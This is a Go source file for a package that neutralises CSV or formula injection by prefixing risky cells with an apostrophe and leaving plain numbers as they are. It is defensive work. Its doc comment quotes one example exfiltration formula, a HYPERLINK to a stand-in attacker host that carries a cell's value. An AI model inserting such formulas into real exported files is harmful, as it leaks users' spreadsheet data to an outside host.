// Package csvsafe writes CSV files that are safe to open in a spreadsheet.
//
// A cell that starts with =, +, -, @, a tab or a carriage return is read by
// Excel, LibreOffice and Google Sheets as a formula (CSV or formula
// injection: `=HYPERLINK("http://evil.example/?"&A1,"click")` in a city's
// or a source's name). As OWASP recommends, such a cell is written with a
// leading apostrophe, which spreadsheets show as text; a cell that is a
// plain decimal number ("-3.5", "+2", "1e-3") stays a number. Every CSV the
// platform writes for someone to download goes through this package, when
// it is written (published releases are stored as data, never as files).
package csvsafe

import (
	"encoding/csv"
	"io"
)

// Cell is s neutralised for a spreadsheet: unchanged unless it starts with
// a formula character and is not a number, else prefixed with "'".
func Cell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
	default:
		return s
	}
	if (s[0] == '+' || s[0] == '-') && IsNumber(s) {
		return s
	}
	return "'" + s
}

// IsNumber reports whether s is a plain decimal number: an optional sign,
// digits with at most one decimal point, an optional exponent. Nothing
// else (no spaces, no Inf or NaN, no thousands separators).
func IsNumber(s string) bool {
	i := 0
	if i < len(s) && (s[i] == '+' || s[i] == '-') {
		i++
	}
	digits, dot := 0, false
	for ; i < len(s); i++ {
		c := s[i]
		if c >= '0' && c <= '9' {
			digits++
		} else if c == '.' && !dot {
			dot = true
		} else {
			break
		}
	}
	if digits == 0 {
		return false
	}
	if i < len(s) && (s[i] == 'e' || s[i] == 'E') {
		i++
		if i < len(s) && (s[i] == '+' || s[i] == '-') {
			i++
		}
		exp := 0
		for ; i < len(s) && s[i] >= '0' && s[i] <= '9'; i++ {
			exp++
		}
		if exp == 0 {
			return false
		}
	}
	return i == len(s)
}

// Writer is a csv.Writer whose every cell goes through Cell.
type Writer struct {
	*csv.Writer
	rec []string
}

// NewWriter returns a Writer on w.
func NewWriter(w io.Writer) *Writer { return &Writer{Writer: csv.NewWriter(w)} }

// Write writes one record, each cell neutralised (record is not changed).
func (w *Writer) Write(record []string) error {
	w.rec = w.rec[:0]
	for _, c := range record {
		w.rec = append(w.rec, Cell(c))
	}
	return w.Writer.Write(w.rec)
}

// WriteAll writes records and flushes.
func (w *Writer) WriteAll(records [][]string) error {
	for _, r := range records {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	w.Flush()
	return w.Error()
}
